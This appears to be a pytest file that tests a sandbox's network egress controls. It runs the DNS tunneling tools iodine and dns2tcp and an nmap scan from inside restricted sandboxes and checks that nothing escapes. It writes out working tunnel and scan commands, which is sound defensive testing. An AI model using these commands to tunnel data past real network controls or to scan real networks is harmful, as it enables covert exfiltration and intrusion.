"""Well-known programs that carry data through DNS, and one that scans networks, from a sandbox that may reach one host.

Each works where the server is, by the very name service that the server asks. What decides is what arrived outside.
"""

import io
import os
import socket
import subprocess
import tarfile
import threading
from pathlib import Path

import pytest
from e2b import CommandExitException, Sandbox
from estate import FORBIDDEN, SERVER, UPSTREAM, Estate, Witness, inside, outpost_in
from support import until

HERE = Path(__file__).resolve().parent
TOOLS = HERE.parent / "tools"

CONFIG = """
[egress]
open_private = ["198.51.100.0/24"]

[[egress.ceiling]]
id = "everything"
allow = "0.0.0.0/0"
ports = ["1-65535"]
"""

POLICY = {"allowOut": ["www.allowed.example"], "denyOut": ["0.0.0.0/0"]}

# The domains whose name servers are the far ends, and the ports where those listen.
IODINE, DNS2TCP = "iodine.example", "dns2tcp.example"
PORTS = {IODINE: 5301, DNS2TCP: 5302}

PASSWORD = "correct horse"

# How iodine says that the far end answered all that it was asked.
CONNECTED = "Connection setup complete"

# By which types of records iodine can carry data.
TYPES = ["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"]


@pytest.fixture(scope="module")
def estate(work_folder):
    estate = Estate(work_folder, {})
    try:
        for names in estate.names:
            names.delegated = {domain: (UPSTREAM, port) for domain, port in PORTS.items()}
        yield estate
    finally:
        estate.close()


@pytest.fixture(scope="module")
def outpost(server, estate, work_folder):
    with outpost_in(estate, work_folder, "tunnels", CONFIG) as outpost:
        yield outpost


@pytest.fixture(scope="module")
def tools(work_folder) -> dict[str, Path]:
    """The programs, by name, and what they are preloaded with."""
    tun = work_folder / "tun.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-O1", "-o", tun, HERE / "tun.c", "-ldl"], check=True)
    found = {"tun.so": tun}
    for name, path in [
        ("iodine", "iodine/usr/sbin/iodine"),
        ("iodined", "iodine/usr/sbin/iodined"),
        ("dns2tcpc", "dns2tcp/usr/bin/dns2tcpc"),
        ("dns2tcpd", "dns2tcp/usr/bin/dns2tcpd"),
    ]:
        found[name] = TOOLS / path
        assert os.access(found[name], os.X_OK), f"{found[name]} is missing; run scripts/setup.sh"
    return found


class FarEnd:
    """A program in a namespace, with all that it says."""

    def __init__(self, namespace: str, *command: object, preload: Path | None = None):
        env = os.environ | ({"LD_PRELOAD": str(preload)} if preload else {})
        self.said = ""
        self.process = subprocess.Popen(
            ["nsenter", f"--net=/run/netns/{namespace}", *map(str, command)],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            env=env,
        )
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reader.start()

    def read(self):
        for line in self.process.stdout:
            self.said += line

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.wait()
        self.reader.join()


@pytest.fixture(scope="module")
def far_ends(estate, tools, work_folder):
    """The servers of both tunnels, and a service behind one of them."""
    config = work_folder / "dns2tcpd.conf"
    config.write_text(
        f"listen = {UPSTREAM}\nport = {PORTS[DNS2TCP]}\nuser = nobody\nchroot = /tmp\ndomain = {DNS2TCP}\n"
        f"resources = echo:{UPSTREAM}:5432\n"
    )
    iodined = [tools["iodined"], "-f", "-c", "-P", PASSWORD, "-l", UPSTREAM, "-p", PORTS[IODINE], "172.31.7.1/24", IODINE]
    with (
        FarEnd(estate.world, *iodined, preload=tools["tun.so"]) as iodine,
        FarEnd(estate.world, tools["dns2tcpd"], "-F", "-d", "1", "-f", config) as dns2tcp,
    ):
        until(lambda: "Listening to dns" in iodine.said or iodine.process.poll() is not None)
        assert iodine.process.poll() is None, iodine.said
        yield
        assert iodine.process.poll() is None and dns2tcp.process.poll() is None, iodine.said + dns2tcp.said


@pytest.fixture(scope="module")
def box(outpost, tools):
    box = outpost.make(network=POLICY)
    for name, path in tools.items():
        box.files.write(f"/tmp/{name}", path.read_bytes(), user="root")
    run(box, "chmod 755 /tmp/iodine /tmp/dns2tcpc")
    yield box
    box.kill()


def run(box, command: str) -> str:
    """What a command printed, as root, however it ended."""
    try:
        done = box.commands.run(command, user="root", timeout=120)
    except CommandExitException as failed:
        done = failed
    return done.stdout + done.stderr


def resolver(estate) -> str:
    return estate.names[0].server_address[0]


def below(estate, domain: str) -> list[str]:
    return [name for name in estate.asked() if name.endswith(domain)]


def at_rest(estate, domain: str) -> int:
    """How many names below a domain were asked for, once what was asked from outside has all arrived."""
    counts = []

    def rests():
        counts.append(len(below(estate, domain)))
        return len(counts) > 50 and len(set(counts[-50:])) == 1

    until(rests, within=30, what="the far end to rest")
    return counts[-1]


@pytest.mark.parametrize("kind", ["NULL", "TXT"])
def test_iodine_works_where_the_server_is(estate, tools, far_ends, kind):
    command = [tools["iodine"], "-f", "-r", "-T", kind, "-P", PASSWORD, resolver(estate), IODINE]
    with FarEnd(estate.home, *command, preload=tools["tun.so"]) as client:
        until(lambda: CONNECTED in client.said or client.process.poll() is not None, 60)
        assert CONNECTED in client.said, client.said
    assert below(estate, IODINE)


def test_iodine_gets_nothing_out_of_a_sandbox(estate, box, far_ends):
    assert run(box, "getent hosts www.allowed.example").startswith(UPSTREAM)
    before = at_rest(estate, IODINE)
    tries = []
    # By the sandbox's own name service, and by addresses that others would have.
    for server in ["10.11.12.1", UPSTREAM, "8.8.8.8"]:
        for kind in TYPES:
            tries.append(
                f"(LD_PRELOAD=/tmp/tun.so timeout 25 /tmp/iodine -f -T {kind} -P '{PASSWORD}' {server} {IODINE} 2>&1) &"
            )
    said = run(box, "\n".join([*tries, "wait"]))
    # They did say something, and to who refuses it.
    assert said.count("Sending DNS queries for " + IODINE) == len(tries), said
    assert CONNECTED not in said
    assert len(below(estate, IODINE)) == before
    assert f"q1.{IODINE}" not in estate.asked()


@pytest.mark.parametrize("kind", ["TXT", "KEY"])
def test_dns2tcp_works_where_the_server_is(estate, tools, far_ends, kind):
    port = 2201 + ["TXT", "KEY"].index(kind)
    command = [tools["dns2tcpc"], "-T", kind, "-z", DNS2TCP, "-r", "echo", "-l", port, "-d", "1", resolver(estate)]
    with FarEnd(estate.home, *command) as client:
        with inside(estate.home):
            assert until(lambda: echoed(port)), client.said
    assert below(estate, DNS2TCP)


def echoed(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
            connection.sendall(b"through a name server")
            return connection.recv(64) == b"through a name server"
    except OSError:
        return False


def test_dns2tcp_gets_nothing_out_of_a_sandbox(estate, box, far_ends):
    before = at_rest(estate, DNS2TCP)
    tries = [
        f"(timeout 25 /tmp/dns2tcpc -T {kind} -z {DNS2TCP} -d 1 {server} 2>&1) &"
        for server in ["10.11.12.1", UPSTREAM, "8.8.8.8"]
        for kind in ["TXT", "KEY"]
    ]
    said = run(box, "\n".join([*tries, "wait"]))
    assert said, "they said nothing at all"
    assert "Available connection" not in said
    assert len(below(estate, DNS2TCP)) == before


# One of the private ranges and metadata services, each with a witness; and the server's own.
PLACES = [*FORBIDDEN, SERVER]


def test_a_scanner_finds_what_is_allowed_and_nobody_else(estate, outpost, work_folder):
    """nmap, in a sandbox that may reach whatever can be reached."""
    with inside(estate.home):
        own = [estate.keep(Witness(SERVER, port)) for port in (22, 8081)]
    box = outpost.make(network={"allowOut": ["0.0.0.0/0"]})
    carry(box, Path("/usr/bin/nmap"), *Path("/usr/share/nmap").glob("nmap-*"))
    scan = "LD_LIBRARY_PATH=/tmp/nmap.libs NMAPDIR=/tmp/nmap.libs timeout 100 /tmp/nmap -sT -Pn -n --max-retries 1 -T4 -oG - -p 22,80,443,8080,8081"
    before = estate.http.connections
    found = run(box, f"{scan} {UPSTREAM} 2>&1")
    assert "80/open" in found, found
    until(lambda: estate.http.connections > before)
    # What it believes of the others counts for nothing: a connection may be taken before it is refused.
    seen = [witness.connections for witness in [*estate.forbidden, *own]]
    found = run(box, f"{scan} {' '.join(PLACES)} 10.11.12.1 10.11.12.4/30 2>&1")
    assert all(f"Host: {place} ()\tPorts:" in found for place in PLACES), found
    assert [witness.connections for witness in [*estate.forbidden, *own]] == seen
    # Where the server is, they are all there.
    with inside(estate.home):
        for address, port in [(FORBIDDEN[0], 80), (SERVER, 22)]:
            socket.create_connection((address, port), timeout=10).close()
    until(lambda: sum(witness.connections for witness in [*estate.forbidden, *own]) == sum(seen) + 2)
    box.kill()


def carry(box: Sandbox, program: Path, *data: Path):
    """A program of this machine, with the libraries and the data that it needs."""
    listed = subprocess.run(["ldd", program], check=True, capture_output=True, text=True).stdout
    libraries = [Path(word) for line in listed.splitlines() if "=>" in line for word in line.split() if word.startswith("/")]
    with io.BytesIO() as archive:
        with tarfile.open(fileobj=archive, mode="w", dereference=True) as tar:
            tar.add(program, program.name)
            for needed in [*libraries, *data]:
                tar.add(needed, f"{program.name}.libs/{needed.name}")
        box.files.write("/tmp/carried.tar", archive.getvalue(), user="root")
    assert run(box, "tar -xf /tmp/carried.tar -C /tmp && rm /tmp/carried.tar") == ""
